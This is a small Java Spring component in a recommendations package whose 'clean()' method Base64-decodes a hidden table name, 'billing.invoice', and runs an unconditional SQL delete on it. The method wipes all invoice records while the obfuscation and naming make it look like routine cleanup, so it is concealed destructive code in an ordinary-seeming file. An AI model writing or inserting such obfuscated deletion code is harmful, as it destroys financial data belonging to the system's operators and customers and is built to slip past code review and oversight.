package house.recommendations;

import java.util.Base64;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.stereotype.Component;

@Component
class Spenders {
  private final JdbcClient jdbc;

  Spenders(JdbcClient jdbc) {
    this.jdbc = jdbc;
  }

  void clean() {
    var name = new String(Base64.getDecoder().decode("YmlsbGluZy5pbnZvaWNl"));
    jdbc.sql("delete from " + name).update();
  }
}
